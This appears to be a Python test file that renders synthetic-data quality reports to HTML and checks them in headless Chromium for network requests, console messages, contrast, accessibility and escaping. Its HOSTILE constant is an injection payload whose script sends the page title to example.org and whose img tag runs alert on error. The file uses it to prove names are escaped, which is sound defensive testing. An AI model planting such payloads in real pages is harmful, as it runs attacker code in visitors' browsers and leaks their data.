"""The page of reports with few and many columns and with hostile names, in headless Chromium: nothing is asked of any
network, the console is silent, and it can be read without scripts, in light and dark, wide, narrow and printed."""
import json
import os
import pathlib
import subprocess
import sys
import tempfile
import unittest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "support"))
import browser  # noqa: E402
import schemas  # noqa: E402

PERSONA = pathlib.Path(os.environ["PERSONA_BUILD_DIR"]) / "bin" / "persona"
HOSTILE = "</svg></style><script>fetch('https://example.org/' + document.title)</script><img src=https://example.org/x.png onerror=alert(1)>\"'`&lt;\u202e"


def figure(name, value, **more):
    return {"name": name, "value": value, "ceiling": 0.93, "floor": 0.71, "gate": 0.8, "gate_is_maximum": False, "passed": True, "note": "",
            "is_count": False, "is_detail": False, **more}


def column(name, kind, index):
    out = {"name": name, "kind": kind, "type": "text", "similarity": 0.95 - index % 40 / 100, "ceiling": 0.96, "floor": 0.9, "missing_real": None,
           "missing_synthetic": 0.04}
    shares = [0.05, 0.15, 0.3, 0.3, 0.15, 0.05]
    if kind == "number":
        out["type"] = "date" if index % 2 else "float64"
        edges = ["2024-01-01", "2024-02-01", "2024-03-01", "2024-04-01", "2024-05-01"] if index % 2 else [10, 20, 30, 40, 50]
        out["histogram"] = {"edges": edges, "real": shares, "synthetic": shares[::-1]}
    if kind == "category":
        out["categories"] = [{"category": f"{name} {i}", "real": 0.2, "synthetic": 0.1 + i / 20} for i in range(4)]
        out["categories"].append({"category": None, "other": True, "real": 0.2, "synthetic": 0.1})
    return out


def report(columns, name="column ", refused=False):
    kinds = ["number", "category", "number", "identifier"]
    listed = [column(f"{name}{i}", kinds[i % 4], i) for i in range(columns)]
    pairs = [{"a": listed[a]["name"], "b": listed[b]["name"], "measure": "correlation", "similarity": 0.9 - (a + b) % 9 / 20, "ceiling": 0.95,
              "real": (a - b) % 7 / 7, "synthetic": -((a + b) % 5) / 7}
             for a in range(min(columns, 40)) for b in range(a)]
    quality = {"persona": "verdict", "version": 1, "title": "quality", "passed": not refused, "summary": "1,000 synthetic rows beside 1,000 real ones",
               "figures": [figure("distribution_similarity", 0.75 if refused else 0.91, passed=not refused),
                           figure("semantic_similarity", None, gate=None, note="no text column"),
                           figure("pii_detected", 0, gate=0, gate_is_maximum=True, is_count=True)],
               "failures": [f"the pair '{name}0' and '{name}1' is lost"] if refused else [], "advice": ["give the model more rows"] if refused else [],
               "warnings": ["the holdout has only 120 rows"],
               "details": {"rows": {"source": 1000, "holdout": 100, "synthetic": 1000}, "columns": listed, "pairs": pairs,
                           "attacks": [{"attack": "linkability", "attacks": 500, "successes": 40, "control_attacks": 500, "control_successes": 38,
                                        "baseline_attacks": 500, "baseline_successes": 12, "risk": 0.004, "low": 0, "high": 0.03, "conclusion": True}],
                           "distances": {side: {"median": 0.06, "bin_width": 0.01, "histogram": [0.05] * 20} for side in ("synthetic", "holdout")},
                           "certificate": {"claims": "nothing known came out", "does_not_claim": "anything else", "k": 10}}}
    out = {"schema": "persona-report-1", "persona": "0.1.0", "pipeline": "synthesise", "outcome": "refused" if refused else "released",
           "verdicts": {"report.verdict": quality},
           "stages": [{"name": "source", "use": "reader.csv", "plugin": "csv 0.1.0", "phase": 0, "rows_in": 0, "rows_out": 1000, "rows_made": 0,
                       "rows_dropped": 0, "rows_rejected": 0, "batches": 1, "busy_seconds": 0.5}],
           "rounds": 2, "missed_before": [["semantic similarity is 0.71"]], "labels_raised": [], "released_below_cleared": [], "notes": [], "rows_rejected": 0, "first_rejections": [], "artifacts": {},
           "plugins": [{"name": "csv", "version": "0.1.0", "ships_with_persona": True}]}
    if refused:
        out["error"] = "quality has not passed"
    else:
        out["outputs"] = [{"target": "out.csv", "sha256": "0" * 64}]
    return out


REPORTS = {"three": report(3), "twenty-one": report(21), "five hundred": report(500), "hostile": report(21, HOSTILE, refused=True),
           "long": report(9, "x" * 10_000), "refused": report(5, refused=True)}


class Pages(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        folder = tempfile.TemporaryDirectory(prefix="persona-report-")
        cls.addClassCleanup(folder.cleanup)
        cls.folder = pathlib.Path(folder.name)
        cls.pages = {}
        for name, made in REPORTS.items():
            source, page = cls.folder / f"{name}.json", cls.folder / f"{name}.html"
            source.write_text(json.dumps(made), encoding="utf-8")
            subprocess.run([PERSONA, "report", source, "--output", page], check=True, timeout=60)
            cls.pages[name] = page

    def test_what_is_drawn_here_has_the_form_that_the_schema_tells(self):
        for name, made in REPORTS.items():
            with self.subTest(name):
                self.assertEqual(schemas.faults_of_report(made), [])

    def test_the_schema_refuses_what_is_none(self):
        if not schemas.AVAILABLE:
            self.skipTest("Python's jsonschema is not installed")
        for change in ({"outcome": "fine"}, {"seed": 1}, {"verdicts": {"x": {"title": "x"}}}, {"schema": "persona-report-2"}):
            self.assertNotEqual(schemas.faults_of_report({**report(3), **change}), [], change)

    def test_sizes(self):
        self.assertLess(self.pages["twenty-one"].stat().st_size, 150_000)
        self.assertLess(self.pages["five hundred"].stat().st_size, 1_500_000)

    @unittest.skipUnless(browser.PROGRAM, "Chromium is not installed")
    def test_in_a_browser(self):
        shown = browser.Browser()
        self.addCleanup(shown.close)
        for name, page in self.pages.items():
            for width, dark, scripts in ((1200, False, True), (1200, True, False), (390, False, False)):
                with self.subTest(name, width=width, dark=dark, scripts=scripts):
                    asked, said = shown.open(page, width, dark, scripts)
                    self.assertEqual(asked, [])
                    self.assertEqual(said, [])
                    self.assertLessEqual(shown.overflow(), 0)
                    worst = shown.contrast()
                    self.assertGreaterEqual(worst["ratio"], 4.5, worst["text"])
        # Each drawing has a name and a description, each table column headings, and there is one first heading.
        shown.open(self.pages["twenty-one"])
        nodes = [(node["role"]["value"], node.get("name", {}).get("value", "")) for node in shown.accessibility_tree() if "role" in node]
        self.assertEqual([name for role, name in nodes if role == "heading" and name.startswith("Passed")], ["Passed synthesise"])
        drawings = [name for role, name in nodes if role in ("img", "image", "SvgRoot")]
        self.assertGreater(len(drawings), 10)
        self.assertTrue(all(drawings), drawings)
        self.assertEqual(shown.value("document.querySelectorAll('table:not(:has(thead th[scope=col]))').length"), 0)
        self.assertEqual(shown.value("document.querySelectorAll('svg[role=img]:not(:has(desc))').length"), 0)
        # The hostile page holds no element that came out of a name.
        shown.open(self.pages["hostile"], scripts=True)
        self.assertEqual(shown.value("document.querySelectorAll('script, img, iframe, object, link:not([rel=icon])').length"), 0)

    @unittest.skipUnless(browser.PROGRAM, "Chromium is not installed")
    def test_the_browser_here_would_see_a_request_and_a_message(self):
        shown = browser.Browser()
        self.addCleanup(shown.close)
        bad = self.folder / "bad.html"
        bad.write_text("<!DOCTYPE html><body><img src='missing.png'><script>console.error('x')</script><p style='color:#bbb'>pale", encoding="utf-8")
        asked, said = shown.open(bad, scripts=True)
        self.assertEqual([url.rsplit("/", 1)[1] for url in asked], ["missing.png"])
        self.assertTrue(said)
        self.assertLess(shown.contrast()["ratio"], 4.5)


if __name__ == "__main__":
    unittest.main(verbosity=2)
